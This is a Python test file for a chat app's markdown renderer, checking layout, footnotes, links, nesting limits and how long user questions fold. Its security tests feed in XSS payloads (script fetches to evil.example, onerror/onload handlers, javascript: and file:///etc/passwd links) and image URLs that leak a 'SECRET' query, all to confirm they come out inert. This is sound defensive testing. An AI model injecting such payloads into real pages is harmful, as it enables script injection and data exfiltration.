"""How an answer and a question look on the page."""

import re

import pytest

from tests.web.chat.parsed import Parsed
from web.chat.markdown import plain, render, render_open
from web.chat.markdown.source import read
from web.chat.markdown.writer import Writer


def answer(text: str) -> Parsed:
    parsed = Parsed(render(text, anchor="m"))
    assert not parsed.unclosed
    return parsed


# Blocks


def test_paragraphs_find_their_own_direction() -> None:
    html = render("One **two** *three* ~~four~~ `five`\nsix  \nseven\n\nשלום", anchor="m")

    assert html == (
        '<p dir="auto">One <strong>two</strong> <em>three</em> <del>four</del> <code>five</code>\nsix<br>\nseven</p>\n'
        '<p dir="auto">שלום</p>\n'
    )


def test_the_headings_of_an_answer_begin_below_that_of_the_page() -> None:
    html = render("# One\n\n## Two\n\n##### Five\n\n###### Six\n\nSetext\n===\n", anchor="m")

    assert re.findall(r"<(h\d) dir=\"auto\">(\w+)</h\d>", html) == [
        ("h2", "One"),
        ("h3", "Two"),
        ("h6", "Five"),
        ("h6", "Six"),
        ("h2", "Setext"),
    ]


def test_the_direction_is_on_the_innermost_block() -> None:
    html = render("- tight\n\n---\n\n- loose\n\n  item\n\n> quote\n\n1. > in\n", anchor="m")

    assert '<li dir="auto">tight</li>' in html
    assert '<li>\n<p dir="auto">loose</p>' in html
    assert '<blockquote>\n<p dir="auto">quote</p>' in html
    assert '<li>\n<blockquote>\n<p dir="auto">in</p>' in html


def test_a_list_starts_with_the_number_it_was_given() -> None:
    assert '<ol start="7">' in render("7. seven\n8. eight", anchor="m")


def test_a_table_stands_in_a_named_region_that_scrolls() -> None:
    html = render("| Ring | Share | Note |\n|:-----|------:|:----:|\n| A | 32 % | x<br>y |\n", anchor="m")

    assert html == (
        '<div class="scroll" role="region" aria-label="Table" tabindex="0"><table><thead><tr>'
        '<th scope="col" dir="auto">Ring</th><th scope="col" dir="auto" class="number">Share</th>'
        '<th scope="col" dir="auto" align="center">Note</th></tr></thead><tbody>\n'
        '<tr><td dir="auto">A</td><td dir="auto" class="number">32 %</td>'
        '<td dir="auto" align="center">x<br>y</td></tr>\n'
        "</tbody></table></div>\n"
    )


def test_a_line_break_in_html_is_one_only_inside_a_table() -> None:
    assert "a&lt;br&gt;b" in render("| x |\n|---|\n| y |\n\na<br>b", anchor="m")


def test_task_lists_show_what_is_done_and_cannot_be_changed() -> None:
    boxes = answer("- [x] bought\n- [ ] paid\n").all("input")

    assert [box.attributes for box in boxes] == [
        {"type": "checkbox", "disabled": "", "checked": "", "aria-label": "Done"},
        {"type": "checkbox", "disabled": "", "aria-label": "To do"},
    ]


def test_footnotes_stand_at_the_end_and_lead_back() -> None:
    text = "Second[^b] first[^a], second again[^b].\n\n[^a]: Note *a*.\n[^b]: Note b.\n\nThe end."

    html = render(text, anchor="7f")

    links = [(link.attributes["href"], link.attributes.get("id")) for link in Parsed(html).all("a")]
    assert links == [
        ("#fn-7f-1", "fn-7f-1-ref"),
        ("#fn-7f-2", "fn-7f-2-ref"),
        ("#fn-7f-1", None),
        ("#fn-7f-1-ref", None),
        ("#fn-7f-2-ref", None),
    ]
    assert [note.attributes["id"] for note in Parsed(html).all("li")] == ["fn-7f-1", "fn-7f-2"]
    assert html.index("The end.") < html.index("Note b.") < html.index("Note <em>a</em>.")


def test_a_footnote_is_found_whatever_the_case_of_its_name() -> None:
    assert 'href="#fn-m-1"' in render("x[^Note]\n\n[^note]: y", anchor="m")
    assert '<li id="fn-m-1">' in render("x[^Note]\n\n[^note]: y", anchor="m")
    assert "fn-m-2" not in render("x[^Note]\n\n[^note]: y", anchor="m")


def test_a_footnote_nobody_refers_to_and_one_that_is_missing_stay_readable() -> None:
    shown = answer("Text[^gone].\n\n[^alone]: Nobody points here.")

    assert "Text[^gone]." in shown.text
    assert "Nobody points here." in shown.text


@pytest.mark.parametrize(
    "text",
    [
        'Say "yes" -- it\'s done...',
        "---\ntitle: x\n---",
        "# Head {#id .class}",
        "[[page]]",
        "Term\n: meaning",
        "H~2~O x^2^",
    ],
)
def test_signs_that_are_no_part_of_our_markdown_stay_as_they_were_written(text: str) -> None:
    shown = answer(text)

    words = re.findall(r"[^\s#=-]+", text)
    assert all(word in shown.text for word in words)
    assert not any("id" in tag.attributes or "class" in tag.attributes for tag in shown.tags)


def test_a_tilde_inside_or_before_a_number_strikes_nothing_out() -> None:
    assert "<del>" not in render("10~20, 30~40, ~5 and ~6", anchor="m")


# Links


def test_a_link_leads_out_and_says_nothing_of_us() -> None:
    html = render('[site](https://a.example/?q=1&r="2" "A title") <mailto:a@b.example> <c@d.example>', anchor="m")

    site = '<a href="https://a.example/?q=1&amp;r=&quot;2&quot;" title="A title" rel="noopener noreferrer nofollow">'
    assert f"{site}site</a>" in html
    assert '<a href="mailto:a@b.example" ' in html
    assert '<a href="mailto:c@d.example" ' in html


@pytest.mark.parametrize(
    "address",
    [
        "/logout",
        "//evil.example/a",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "<java\tscript:alert(1)>",
        "java&#10;script:alert(1)",
        "java&Tab;script:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "ftp://a.example",
        "https:evil.example",
        "https:///evil.example",
        "http:\\\\\\\\evil.example",
        "https://a.example\\\\@evil.example",
        "#message-1",
        "?x=1",
        "chat.html",
        "\\\\\\\\evil",
        "mailto:",
        "&#x20;javascript:alert(1)",
        "blob:https://a.example/1",
        "https://a.example/\\\\a",
    ],
)
def test_a_link_that_is_not_absolute_http_or_mail_is_only_its_text(address: str) -> None:
    shown = answer(f"[click]({address}) ![picture]({address})\n\n[r]\n\n[r]: {address}")

    assert not shown.all("a")
    assert "click" in shown.text
    assert "picture" in shown.text


def test_a_reference_is_a_link_too() -> None:
    assert answer("[a][r]\n\n[r]: https://a.example/1").all("a")[0].attributes["href"] == "https://a.example/1"


def test_the_title_of_a_link_cannot_leave_its_place() -> None:
    written = Writer(read("[a](https://a.example '\" onclick=\"x &amp; <b>')"), "m").html()

    assert ' title="&quot; onclick=&quot;x &amp; &lt;b&gt;" rel=' in written


def test_an_empty_link_shows_its_address() -> None:
    assert answer("[](https://a.example/1)").inside("a") == ["https://a.example/1"]


def test_a_bare_address_stays_text() -> None:
    assert "See https://a.example/1 there" in answer("See https://a.example/1 there").text


# REN: what models write that goes wrong elsewhere


@pytest.mark.parametrize(
    "text",
    [
        "<script>fetch('//evil.example')</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        '<iframe srcdoc="<script>alert(1)</script>">',
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "Well: <script>fetch('//evil.exam",
        "<img src=x onerror=aler",
        "text <scr",
        "<!-- a -- comment",
        "<details><summary>More</summary>\n\nInside **bold**\n\n</details>",
    ],
)
def test_ren_01_raw_html_is_text(text: str) -> None:
    shown = answer(text)
    grows = Parsed(render_open(text, anchor="m"))

    assert shown.text.split() == text.replace("**", "").split()
    assert grows.text.split() == shown.text.split()
    assert set(shown.names()) <= {"p", "strong"}
    assert not shown.comments


def test_ren_02_no_picture_is_loaded_from_anywhere() -> None:
    text = (
        "![a](https://evil.example/p.png?q=SECRET)\n\n![b][r]\n\n![](//evil.example/3)\n\n"
        "![](data:image/svg+xml,%3Csvg%3E)\n\n![c](/4.png)\n\n![](https://evil.example/5)\n\n"
        "<img srcset='//evil.example/6'><video poster=//evil.example/7>\n\n<link rel=preload href=//evil.example/8>\n\n"
        '<p style="background:url(//evil.example/9)">\n\n[r]: https://evil.example/2'
    )

    shown = answer(text)

    assert set(shown.names()) == {"p", "a"}
    assert [(a.attributes["href"], a.attributes["rel"]) for a in shown.all("a")] == [
        ("https://evil.example/p.png?q=SECRET", "noopener noreferrer nofollow"),
        ("https://evil.example/2", "noopener noreferrer nofollow"),
        ("https://evil.example/5", "noopener noreferrer nofollow"),
    ]
    assert shown.inside("a") == ["a", "b", "https://evil.example/5"]
    for address in ("//evil.example/3", "data:image/svg+xml,%3Csvg%3E", "c (/4.png)", "//evil.example/9"):
        assert address in shown.text


def test_a_picture_inside_a_link_is_only_its_description() -> None:
    html = render("[![logo](https://a.example/logo.png) Home](https://a.example/)", anchor="m")

    assert html.count("<a ") == 1
    assert ">logo Home</a>" in html


@pytest.mark.parametrize("fence", ["````", "~~~~"])
def test_ren_03_a_fence_inside_a_longer_fence_is_code(fence: str) -> None:
    inner = f"{fence[:3]}python\nx = 1\n{fence[:3]}"

    shown = answer(f"{fence}markdown\n{inner}\n{fence}\n\nAfter *it*.")

    assert shown.inside("code") == [inner]
    assert shown.inside("em") == ["it"]


def test_ren_04_backticks_in_the_middle_of_a_line_do_not_close_a_block() -> None:
    code = "import x\nre = /```[^\\n]*/ * 2\nprint(*a)"

    shown = answer(f"```js\n{code}\n```\n\n*After*")

    assert shown.inside("code") == [code]
    assert shown.inside("em") == ["After"]


def test_ren_04_a_fence_that_never_closes_ends_with_its_answer() -> None:
    shown = answer("Look:\n\n```python\nx = 1\n\ny = *2*")

    assert shown.inside("code") == ["x = 1\n\ny = *2*"]
    assert not shown.unclosed


def test_ren_05_dollar_amounts_are_money() -> None:
    text = "Q1 ($100K), Q2 ($115K), total $215K; use $PATH and ~$0.79/m³"

    shown = answer(text)

    assert shown.text.strip() == text
    assert shown.names() == ["p"]


def test_ren_06_a_fence_that_starts_with_dashes_makes_no_heading() -> None:
    shown = answer("Here it is:\n```yaml\n---\na: 1\n```")

    assert shown.inside("p") == ["Here it is:"]
    assert shown.inside("code") == ["---\na: 1"]
    assert not any(re.fullmatch(r"h\d", name) for name in shown.names())


# Nesting


def test_nesting_ends_at_twenty_and_keeps_the_text() -> None:
    quotes = answer(">" * 5_000 + " deep")
    lists = answer("- " * 500 + "deep")
    steps = answer("".join("  " * level + f"- level{level}\n" for level in range(60)))
    stresses = answer("*a **b " * 400 + "deep" + "** c*" * 400)

    assert quotes.names().count("blockquote") == 20
    assert lists.names().count("ul") == 20
    assert re.findall(r"level\d+", steps.text) == [f"level{level}" for level in range(60)]
    assert stresses.names().count("em") + stresses.names().count("strong") <= 20 + 800
    assert deepest(render("*a **b " * 400 + "deep" + "** c*" * 400, anchor="m")) <= 21
    assert deepest(render_open("*a _b " * 400 + "deep" + "_ c*" * 400, anchor="m")) <= 21
    assert all("deep" in shown.text for shown in (quotes, lists, stresses))


def deepest(html: str) -> int:
    depth = most = 0
    for tag in re.findall(r"<(/?)\w+", html):
        depth += -1 if tag else 1
        most = max(most, depth)
    return most


# Questions


def test_a_question_is_shown_as_it_was_typed() -> None:
    html = plain("<b>Hi</b> & *you*\n  two  spaces\n\n\n# no heading\n")

    assert html == (
        '<p class="plain" dir="auto">&lt;b&gt;Hi&lt;/b&gt; &amp; *you*\n  two  spaces</p>\n'
        '<p class="plain" dir="auto"># no heading</p>'
    )


def test_a_long_question_is_folded_after_twelve_lines() -> None:
    lines = [f"line {number}" for number in range(1, 51)]

    shown = Parsed(plain("\n".join(lines)))

    assert shown.inside("p") == ["\n".join(lines[:12]), "\n".join(lines[12:])]
    assert shown.inside("span") == ["Show the other 38 lines", "Show less"]
    assert [tag.attributes.get("class") for tag in shown.all("span")] == ["when-closed", "when-open"]
    assert shown.all("details")[0].attributes == {"class": "more"}


def test_a_question_just_over_twelve_lines_is_not_folded() -> None:
    assert "details" not in plain("\n".join("x" * 16))


def test_one_endless_line_is_folded_at_a_space() -> None:
    text = "word " * 1_000

    shown = Parsed(plain(text))

    first, rest = shown.inside("p")
    assert 600 < len(first) <= 1_200
    assert first + rest == text
    assert shown.inside("span")[0] == "Show the rest"


def test_txt_04_twenty_thousand_lines_are_a_handful_of_elements() -> None:
    text = "\n".join("x" * 50 for _ in range(20_000))

    shown = Parsed(plain(text))

    assert len(shown.tags) == 6
    assert "Show the other 19,988 lines" in shown.text
    assert shown.text.count("x" * 50) == 20_000


def test_blank_lines_without_end_are_one_gap() -> None:
    shown = Parsed(plain("a" + "\n" * 5_000 + "b" + "\n\n" * 5_000))

    assert len(shown.tags) <= 6
    assert shown.text.replace("\n", "").startswith("a")
